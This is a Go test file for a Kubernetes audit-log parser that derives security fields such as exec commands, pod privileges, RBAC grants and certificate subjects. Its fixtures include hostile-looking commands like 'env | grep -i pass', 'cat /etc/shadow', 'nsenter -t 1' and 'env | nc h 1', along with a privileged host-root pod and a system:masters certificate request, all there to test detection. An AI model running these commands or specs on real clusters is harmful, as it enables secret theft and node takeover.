package kubeaudit

import (
	"cmp"
	"encoding/base64"
	"encoding/pem"
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"tideline/parsers"
)

// ask decodes one event and gives the values of one field, sorted as they come.
func ask(t *testing.T, event, field string) string {
	t.Helper()
	return askFrom(t, event, parsers.Origin{}, field)
}

// askFrom is ask for an event out of envelopes.
func askFrom(t *testing.T, event string, origin parsers.Origin, field string) string {
	t.Helper()
	got := "no event"
	d := Format.NewDecoder(parsers.Options{Fields: []string{field}})
	err := d.Decode(&parsers.Record{Data: []byte(event), Origin: origin}, func(ev *parsers.Event) error {
		var parts []string
		for _, v := range ev.Views[0].Fields.Values(nil, 0) {
			if v == nil {
				v = []byte("null")
			}
			parts = append(parts, string(v))
		}
		got = strings.Join(parts, "|")
		return nil
	})
	if err != nil && !kept(err) {
		t.Errorf("%.80s: %v", event, err)
	}
	return got
}

// event makes an event of some members.
func event(members string) string {
	return `{"kind":"Event","apiVersion":"audit.k8s.io/v1","auditID":"x","stage":"ResponseComplete","verb":"create",` + members + `}`
}

func body(resource, object string) string {
	return event(`"objectRef":{"resource":"` + resource + `"},"requestObject":` + object)
}

const podSpec = `{"hostNetwork":true,"containers":[{"image":"a:1","command":["sh"],"args":["-c","id"]}]}`

// role is a role with one entry for each of its arguments.
func role(entries ...string) string {
	return body("clusterroles", `{"rules":[`+strings.Join(entries, ",")+`]}`)
}

func TestDerivedFields(t *testing.T) {
	cases := []struct{ name, event, field, want string }{
		{"ok 200", event(`"responseStatus":{"code":200}`), "k8s.ok", "true"},
		{"code 403.0", event(`"responseStatus":{"code":403.0}`), "responseStatus.code", "403"},
		{"ok 403.0", event(`"responseStatus":{"code":403.0}`), "k8s.ok", "false"},
		{"ok 101", event(`"responseStatus":{"code":101}`), "k8s.ok", "true"},
		{"ok 0", event(`"responseStatus":{"code":0}`), "k8s.ok", "true"},
		{"not ok", event(`"responseStatus":{"code":302}`), "k8s.ok", "false"},
		{"not ok 403", event(`"responseStatus":{"code":403}`), "k8s.ok", "false"},
		{"ok of no status", event(`"x":1`), "k8s.ok", ""},
		{"code and decision", event(`"responseStatus":{"code":200},"annotations":{"authorization.k8s.io/decision":"allow"}`),
			"responseStatus.code", "200|ALLOW"},
		{"scope object", event(`"objectRef":{"resource":"secrets","namespace":"a","name":"b"}`), "k8s.scope", "object"},
		{"scope namespace", event(`"objectRef":{"resource":"secrets","namespace":"a"}`), "k8s.scope", "namespace"},
		{"scope cluster", event(`"objectRef":{"resource":"secrets"}`), "k8s.scope", "cluster"},
		{"scope of no object", event(`"requestURI":"/version"`), "k8s.scope", ""},
		{"actor", event(`"user":{"username":"ann"}`), "k8s.actor", "ann"},
		{"actor impersonating", execShell, "k8s.actor", "system:admin"},
		{"on behalf of a person", event(`"user":{"username":"proxy"},"impersonatedUser":{"username":"ann"}`), "k8s.onBehalf", "ann"},
		{"as one of the cluster's own", execShell, "k8s.onBehalf", ""},
		{"namespace of a service account", event(`"user":{"username":"system:serviceaccount:prod:dev"}`), "k8s.ownNamespace", "prod"},
		{"name of a service account", event(`"user":{"username":"system:serviceaccount:prod:dev"}`), "k8s.ownName", "dev"},
		{"a person has no such name", event(`"user":{"username":"ann"}`), "k8s.ownName", ""},
		{"a person has none", event(`"user":{"username":"ann"}`), "k8s.ownNamespace", ""},
		{"a group of service accounts has none", event(`"user":{"username":"system:serviceaccounts:prod"}`), "k8s.ownNamespace", ""},
		{"on nobody's behalf", event(`"user":{"username":"ann"}`), "k8s.onBehalf", ""},
		{"cmd", execShell, "k8s.cmd", "sh -c env | grep -i pass"},
		{"cmd escaped", event(`"requestURI":"/exec?command=cat\u0026command=%2Fetc%2Fshadow\u0026stdout=true"`), "k8s.cmd", "cat /etc/shadow"},
		{"cmd hidden key", event(`"requestURI":"/exec?c%6fmmand=id"`), "k8s.cmd", "id"},
		{"cmd of kubelet run", event(`"requestURI":"/api/v1/nodes/n/proxy/run/a/b/c?cmd=id+-u"`), "k8s.cmd", "id -u"},
		{"no cmd", event(`"requestURI":"/api?cmd=id"`), "k8s.cmd", ""},
		{"bad percent", event(`"requestURI":"/exec?command=100%&command=%zz"`), "k8s.cmd", "100% %zz"},
		{"path", event(`"requestURI":"/api/v1/%6eodes+x?a=/b"`), "k8s.path", "/api/v1/nodes+x"},
		{"public", event(`"sourceIPs":["10.0.0.1","8.8.8.8"]`), "k8s.src_public", "true"},
		{"claimed public", event(`"sourceIPs":["8.8.8.8","10.0.0.1"]`), "k8s.src_public", "false"},
		{"public v6", event(`"sourceIPs":["2a00:1450::1"]`), "k8s.src_public", "true"},
		{"mapped private", event(`"sourceIPs":["::ffff:192.168.1.1"]`), "k8s.src_public", "false"},
		{"documentation", event(`"sourceIPs":["203.0.113.5"]`), "k8s.src_public", "false"},
		{"carrier NAT", event(`"sourceIPs":["100.64.0.1"]`), "k8s.src_public", "false"},
		{"no address", event(`"sourceIPs":["private"]`), "k8s.src_public", ""},
		{"annotations", createPod, "k8s.annotations", "team=web"},
		{"annotations of a JSON patch", body("serviceaccounts", `[{"op":"add","path":"/metadata/annotations/eks.amazonaws.com~1role-arn","value":"arn"}]`),
			"k8s.annotations", "eks.amazonaws.com/role-arn=arn"},
		{"images", createPod, "k8s.pod.images", "alpine:3|busybox"},
		{"command", createPod, "k8s.pod.command", "sh -c nsenter -t 1|id"},
		{"privileged", createPod, "k8s.pod.privileged", "true"},
		{"privileged by alias", createPod, "privileged", "true"},
		{"caps", createPod, "capabilities", "SYS_ADMIN|NET_RAW"},
		{"hostPath", createPod, "hostPath", "/"},
		{"hostPath with prefix", createPod, "kubernetes.audit.hostPath", "/"},
		{"hostPath without path", body("pods", `{"spec":{"containers":[],"volumes":[{"hostPath":{}},{"hostPath":null}]}}`), "hostPath", ""},
		{"hostPID", createPod, "k8s.pod.hostPID", "true"},
		{"hostIPC", createPod, "k8s.pod.hostIPC", "false"},
		{"serviceAccount", createPod, "k8s.pod.serviceAccount", "admin"},
		{"secretRefs", createPod, "k8s.pod.secretRefs", "db|tls|api|all"},
		{"env", createPod, "k8s.pod.env", "A=b"},
		{"ownerKind", createPod, "k8s.pod.ownerKind", "Job"},
		{"no pod", listSecrets, "k8s.pod.privileged", ""},
		{"deployment", body("deployments", `{"spec":{"replicas":1,"template":{"spec":`+podSpec+`}}}`), "k8s.pod.hostNetwork", "true"},
		{"cron job", body("cronjobs", `{"spec":{"jobTemplate":{"spec":{"template":{"spec":`+podSpec+`}}}}}`), "k8s.pod.command", "sh -c id"},
		{"workflow", body("workflows", `{"spec":{"entrypoint":"m","templates":[{"name":"s","steps":[[{"name":"a","template":"m"}]]},{"name":"m","container":{"image":"a:1","command":["id"]}},`+
			`{"name":"x","script":{"image":"b:2","command":["sh"],"source":"env"},"sidecars":[{"image":"c:3"}]}]}}`), "k8s.pod.images", "a:1|b:2|c:3"},
		{"script of a workflow", body("cronworkflows", `{"spec":{"workflowSpec":{"templates":[{"script":{"image":"b:2","command":["sh"],"source":"env | nc h 1"}}]}}}`),
			"k8s.pod.command", "sh env | nc h 1"},
		{"account of a workflow", body("cronworkflows", `{"spec":{"workflowSpec":{"serviceAccountName":"admin","templates":[{"container":{"image":"a"}}]}}}`),
			"k8s.pod.serviceAccount", "admin"},
		{"task", body("taskruns", `{"spec":{"taskSpec":{"volumes":[{"name":"h","hostPath":{"path":"/"}}],"steps":[{"image":"a:1","script":"id"}]}}}`), "k8s.pod.command", "id"},
		{"hostPath spelled oddly", body("pods", `{"spec":{"containers":[],"volumes":[{"hostPath":{"path":"//etc/./kubernetes/"}}]}}`), "k8s.pod.hostPaths", "//etc/./kubernetes/|/etc/kubernetes"},
		{"hostPath of slashes", body("pods", `{"spec":{"containers":[],"volumes":[{"hostPath":{"path":"//"}}]}}`), "k8s.pod.hostPaths", "//|/"},
		{"volume of a task", body("tasks", `{"spec":{"volumes":[{"name":"h","hostPath":{"path":"/"}}],"steps":[{"image":"a:1"}]}}`), "k8s.pod.hostPaths", "/"},
		{"templates of something else", body("widgets", `{"spec":{"templates":["a",{"b":1}]}}`), "k8s.pod.images", ""},
		{"ephemeral", body("pods", `{"spec":{"ephemeralContainers":[{"image":"dbg"}]}}`), "k8s.pod.images", "dbg"},
		{"JSON patch", body("pods", `[{"op":"add","path":"/spec/containers/-","value":{"image":"evil"}}]`), "k8s.pod.images", "evil"},
		{"JSON patch of a flag", body("deployments", `[{"op":"add","path":"/spec/template/spec/hostPID","value":true}]`), "k8s.pod.hostPID", "true"},
		{"JSON patch of a container", body("deployments", `[{"op":"test","path":"/x"},{"op":"replace","path":"/spec/template/spec/containers/0/securityContext","value":{"privileged":true}}]`),
			"k8s.pod.privileged", "true"},
		{"JSON patch of a label", event(`"requestObject":[{"op":"add","path":"/metadata/labels/a","value":"b"}],"responseObject":{"spec":` + podSpec + `}`),
			"k8s.pod.images", "a:1"},
		{"response", event(`"objectRef":{"resource":"pods"},"requestObject":{"metadata":{}},"responseObject":{"spec":` + podSpec + `}`),
			"k8s.pod.images", "a:1"},
		{"last applied", body("deployments", `{"metadata":{"annotations":{"kubectl.kubernetes.io/last-applied-configuration":`+
			`"{\"spec\":{\"template\":{\"spec\":{\"containers\":[{\"image\":\"b:2\"}]}}}}\n"}}}`), "k8s.pod.images", "b:2"},
		{"too big for AKS", event(`"objectRef":{"resource":"pods"},"requestObject":"skipped-too-big-size-object"`), "k8s.pod.images", ""},
		{"grants", role(`{"apiGroups":[""],"resources":["secrets","pods"],"verbs":["get","list"]}`), "k8s.role.grants",
			"secrets:get|secrets:list|pods:get|pods:list"},
		{"grants do not mix", role(`{"apiGroups":[""],"resources":["secrets"],"verbs":["delete"]}`, `{"apiGroups":[""],"resources":["pods"],"verbs":["get"]}`),
			"k8s.role.grants", "secrets:delete|pods:get"},
		{"grants of another group", role(`{"apiGroups":["x.io"],"resources":["secrets"],"verbs":["get"]}`), "k8s.role.grants", ""},
		{"grants of an unknown resource", role(`{"apiGroups":["x.io"],"resources":["widgets"],"verbs":["get"]}`), "k8s.role.grants", "widgets:get"},
		{"grants alone", role(`{"apiGroups":[""],"resources":["users"],"verbs":["impersonate"]}`), "k8s.role.grants", "impersonate|users:impersonate"},
		{"wildcard", role(`{"apiGroups":[""],"resources":["pods"],"verbs":["*"]}`), "k8s.role.wildcard", "true"},
		{"no wildcard", role(`{"apiGroups":["*"],"resources":["pods"],"verbs":["get"]}`), "k8s.role.wildcard", "false"},
		{"no rules", body("clusterroles", `{"rules":null}`), "k8s.role.wildcard", "false"},
		{"no role", createPod, "k8s.role.wildcard", ""},
		{"role verbs", role(`{"resources":["pods"],"verbs":["get","list"]}`), "k8s.role.verbs", "get|list"},
		{"webhook", body("validatingwebhookconfigurations", `{"webhooks":[{"clientConfig":{"url":"https://x"},"rules":[{"resources":["secrets","pods"]}]}]}`),
			"k8s.webhook.resources", "secrets|pods"},
		{"webhook url, patched", body("validatingwebhookconfigurations", `[{"op":"replace","path":"/webhooks/0/clientConfig/url","value":"https://x"}]`), "k8s.webhook.url", "https://x"},
		{"webhook url, patched with what it is in", body("validatingwebhookconfigurations", `[{"op":"test","path":"/a"},{"op":"add","path":"\/webhooks\/0\/clientConfig","value":{"url":"https://x"}}]`), "k8s.webhook.url", "https://x"},
		{"webhook url", body("validatingwebhookconfigurations", `{"webhooks":[{"clientConfig":{"url":"https://x"}}]}`), "k8s.webhook.url", "https://x"},
		{"duplicate key", event(`"user":{"username":"ann","username":"eve"}`), "user.username", "ann|eve"},
		{"literal dotted key", event(`"user.username":"ann"`), "username", "ann"},
		{"null", event(`"objectRef":{"name":null}`), "objectRef.name", "null"},
		{"Elastic's annotation", event(`"annotations":{"authorization.k8s.io/decision":"forbid"}`),
			"kubernetes.audit.annotations.authorization_k8s_io/decision", "forbid"},
		{"body path", createPod, "requestObject.spec.containers.securityContext.capabilities.add", "SYS_ADMIN|NET_RAW"},
		{"commands of probes and hooks", body("pods", `{"spec":{"containers":[{"command":["web"],"livenessProbe":{"exec":{"command":["sh","-c","id"]}},"lifecycle":{"preStop":{"exec":{"command":["env"]}},"postStart":{"httpGet":{"path":"/"}}}}]}}`),
			"k8s.pod.command", "web|sh -c id|env"},
		{"command with empty arguments", body("pods", `{"spec":{"containers":[{"command":["id"],"args":[]},{"command":null,"args":[]}]}}`), "k8s.pod.command", "id"},
		{"role with an entry without resources", role(`{"verbs":["get"],"resources":null,"nonResourceURLs":["/metrics"]}`), "k8s.role.grants", ""},
		{"role with an entry without groups", role(`{"verbs":["get"],"resources":["secrets"],"apiGroups":[]}`), "k8s.role.grants", "secrets:get"},
		{"empty list of the head", event(`"user":{"username":"ann","groups":[]}`), "user.groups", "null"},
		{"empty list of the head, parsed in full", event(`"user":{"username":"ann","username":"ann","groups":[]}`), "user.groups", "null"},
		{"no list of the head", event(`"user":{"username":"ann"}`), "user.groups", ""},
		{"empty list of the body", body("pods", `{"spec":{"containers":[]}}`), "requestObject.spec.containers", "null"},
		{"group in the version", beta, "apiGroup", "apps"},
	}
	for _, c := range cases {
		if got := ask(t, c.event, c.field); got != c.want {
			t.Errorf("%s: %s is %q, want %q", c.name, c.field, got, c.want)
		}
	}
}

// TestWildcardRole: "*" is spelled out, since a rule cannot ask for it.
func TestWildcardRole(t *testing.T) {
	got := "|" + ask(t, role(`{"apiGroups":["*"],"resources":["*"],"verbs":["*"]}`), "k8s.role.grants") + "|"
	for _, want := range []string{"escalate", "bind", "impersonate", "secrets:list", "pods/exec:create", "nodes/proxy:get", "daemonsets:create"} {
		if !strings.Contains(got, "|"+want+"|") {
			t.Errorf("%s is missing in %s", want, got)
		}
	}
	for entry, want := range map[string]string{
		`{"apiGroups":["shop.example"],"resources":["carts"],"verbs":["*"]}`:                                "",
		`{"apiGroups":["monitoring.coreos.com"],"resources":["*"],"verbs":["*"]}`:                           "",
		`{"apiGroups":[""],"resources":["secrets"],"verbs":["*"]}`:                                          "",
		`{"apiGroups":[""],"resources":["serviceaccounts"],"verbs":["*"]}`:                                  "impersonate",
		`{"apiGroups":["rbac.authorization.k8s.io"],"resources":["clusterroles"],"verbs":["bind"]}`:         "bind",
		`{"apiGroups":["authentication.k8s.io"],"resources":["userextras/scopes"],"verbs":["impersonate"]}`: "impersonate",
		`{"verbs":["escalate"]}`: "escalate",
	} {
		var lone []string
		for _, g := range strings.Split(ask(t, role(entry), "k8s.role.grants"), "|") {
			if g != "" && !strings.Contains(g, ":") {
				lone = append(lone, g)
			}
		}
		if got := strings.Join(lone, "|"); got != want {
			t.Errorf("%s is a right over rights: %q, want %q", entry, got, want)
		}
	}
	apps := ask(t, role(`{"apiGroups":["apps"],"resources":["*"],"verbs":["get"]}`), "k8s.role.grants")
	if strings.Contains(apps, "secrets") || !strings.Contains(apps, "daemonsets:get") {
		t.Errorf("all of apps grants %s", apps)
	}
}

// TestGrantsOfARole: what an entry of a role spells with stars, in each way that one is
// written.
func TestGrantsOfARole(t *testing.T) {
	written := func(body_ string) string { return body("clusterroles", body_) }
	for name, c := range map[string]struct{ event, grants, wildcard string }{
		"a subresource of everything": {role(`{"apiGroups":[""],"resources":["*/exec"],"verbs":["create"]}`), "pods/exec:create", "false"},
		"all of pods":                 {role(`{"apiGroups":[""],"resources":["pods/*"],"verbs":["get"]}`), "pods/exec:get|pods/attach:get|pods/portforward:get|pods/ephemeralcontainers:get|pods/log:get|pods/proxy:get", "false"},
		"all of another group's":      {role(`{"apiGroups":["apps"],"resources":["pods/*","*/exec"],"verbs":["get"]}`), "", "false"},
		"twice":                       {role(`{"apiGroups":[""],"resources":["secrets","secrets","carts"],"verbs":["get","get"]}`), "secrets:get|carts:get", "false"},
		"a custom resource":           {role(`{"apiGroups":["shop.example"],"resources":["secrets"],"verbs":["get"]}`), "", "false"},
		"no group":                    {role(`{"resources":["secrets"],"verbs":["get"]}`), "secrets:get", "false"},
		"all verbs":                   {role(`{"apiGroups":["x"],"resources":["carts"],"verbs":["get","*"]}`), "", "true"},
		"an entry that is added":      {written(`[{"op":"add","path":"/rules/-","value":{"apiGroups":[""],"resources":["secrets"],"verbs":["list"]}}]`), "secrets:list", "false"},
		"entries that are replaced":   {written(`[{"op":"replace","path":"/rules","value":[{"apiGroups":["*"],"resources":["*"],"verbs":["bind"]}]}]`), "bind", "true"},
		"something else is added":     {written(`[{"op":"add","path":"/metadata/labels/x","value":{"a":"b"}}]`), "", ""},
		"another object's rules":      {body("ingresses", `{"rules":[{"resources":["secrets"],"verbs":["get"]}]}`), "", ""},
	} {
		if got := ask(t, c.event, "k8s.role.wildcard"); got != c.wildcard {
			t.Errorf("%s: a wildcard is %q, want %q", name, got, c.wildcard)
		}
		got := ask(t, c.event, "k8s.role.grants")
		if name == "all verbs" || name == "entries that are replaced" {
			if !strings.Contains("|"+got+"|", "|"+cmp.Or(c.grants, "carts:delete")+"|") {
				t.Errorf("%s grants %s", name, got)
			}
		} else if got != c.grants {
			t.Errorf("%s grants %q, want %q", name, got, c.grants)
		}
	}
	many := make([]string, 2*maxOtherResources)
	for i := range many {
		many[i] = fmt.Sprintf("%q", fmt.Sprint("r", i))
	}
	got := ask(t, role(`{"resources":[`+strings.Join(many, ",")+`,"secrets"],"verbs":["v1","v2","v3","v4","v5","v6","v7","v8","v9","v10","v11","v12","v13","v14","v15","v16","v17","get"]}`), "k8s.role.grants")
	if n, want := strings.Count(got, "|")+1, (maxOtherResources+1)*(maxOtherVerbs+1); n != want || !strings.HasSuffix(got, "secrets:get") {
		t.Errorf("a large role grants %d things, want %d, and what rules know among them: %s", n, want, got[len(got)-40:])
	}
}

func TestCertificateRequest(t *testing.T) {
	// O=system:masters, CN=system:kube-controller-manager; the key and the
	// signature are not looked at.
	der := []byte{0x30, 0x58, 0x30, 0x4d, 0x02, 0x01, 0x00, 0x30, 0x42, 0x31, 0x17, 0x30, 0x15, 0x06, 0x03, 0x55, 0x04, 0x0a, 0x0c, 0x0e}
	der = append(der, "system:masters"...)
	der = append(der, 0x31, 0x27, 0x30, 0x25, 0x06, 0x03, 0x55, 0x04, 0x03, 0x0c, 0x1e)
	der = append(der, "system:kube-controller-manager"...)
	der = append(der, 0x30, 0x00, 0xa0, 0x02, 0x30, 0x00, 0x30, 0x00, 0x03, 0x05, 0x00, 0, 0, 0, 0)
	der[1], der[3] = byte(len(der)-2), byte(len(der)-2-2-2-7)
	text := base64.StdEncoding.EncodeToString(pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE REQUEST", Bytes: der}))
	ev := body("certificatesigningrequests", `{"spec":{"request":"`+text+`"}}`)
	if cn, o := ask(t, ev, "k8s.csr.cn"), ask(t, ev, "k8s.csr.o"); cn != "system:kube-controller-manager" || o != "system:masters" {
		t.Errorf("CN %q, O %q", cn, o)
	}
	ev = body("certificaterequests", `{"spec":{"request":"`+text+`"}}`) // of cert-manager
	if cn, o := ask(t, ev, "k8s.csr.cn"), ask(t, ev, "k8s.csr.o"); cn != "system:kube-controller-manager" || o != "system:masters" {
		t.Errorf("of a CertificateRequest CN %q, O %q", cn, o)
	}
	ev = body("certificates", `{"spec":{"commonName":"ann","subject":{"organizations":["a","system:masters"]},"secretName":"x"}}`)
	if cn, o := ask(t, ev, "k8s.csr.cn"), ask(t, ev, "k8s.csr.o"); cn != "ann" || o != "a|system:masters" {
		t.Errorf("of a Certificate CN %q, O %q", cn, o)
	}
	if cn := ask(t, body("pods", `{"spec":{"commonName":"ann"}}`), "k8s.csr.cn"); cn != "" {
		t.Errorf("a pod gave the name %q", cn)
	}
	for _, broken := range []string{"", "!!", "AAAA", text[:40]} {
		if cn := ask(t, body("certificatesigningrequests", `{"spec":{"request":"`+broken+`"}}`), "k8s.csr.cn"); cn != "" {
			t.Errorf("%q gave the name %q", broken, cn)
		}
	}
}

// TestCatalogueFieldsExist: every field that the catalogue of detections
// derives is one of ours.
func TestCatalogueFieldsExist(t *testing.T) {
	files, _ := filepath.Glob(filepath.Join(filepath.Dir(corpus()), "reference", "detections", "r_1*.yaml"))
	if len(files) == 0 {
		t.Skip("no catalogue beside the checkout")
	}
	name := regexp.MustCompile(`[{,] *(k8s\.[A-Za-z_.]+)[|:]`)
	for _, file := range files {
		text, err := os.ReadFile(file)
		if err != nil {
			t.Fatal(err)
		}
		for _, m := range name.FindAllSubmatch(text, -1) {
			if derived[string(m[1])] == nil {
				t.Errorf("%s asks for %s", filepath.Base(file), m[1])
			}
		}
	}
}

func TestNeeds(t *testing.T) {
	for field, want := range map[string]string{
		"verb": "", "user.username": "", "k8s.cmd": "", "requestObject.spec.x": "Request RequestResponse", "requestObjectX": "",
		"responseObject.data": "RequestResponse", "hostPath": "Request RequestResponse", "k8s.pod.env": "Request RequestResponse",
		"k8s.annotations": "Request RequestResponse", "kubernetes.audit.requestObject.a": "Request RequestResponse",
	} {
		if got := strings.Join(Format.Needs(kindAudit, field), " "); got != want {
			t.Errorf("%s needs %q, want %q", field, got, want)
		}
	}
	for kind, want := range map[int]string{kindAudit: "", kindGCP: "a Cloud Logging entry", kindAzure: "an Azure Monitor record"} {
		if got := strings.Join(Format.Needs(kind, ""), " "); got != want {
			t.Errorf("view %s needs %q, want %q", Format.Kinds[kind].Name, got, want)
		}
	}
}
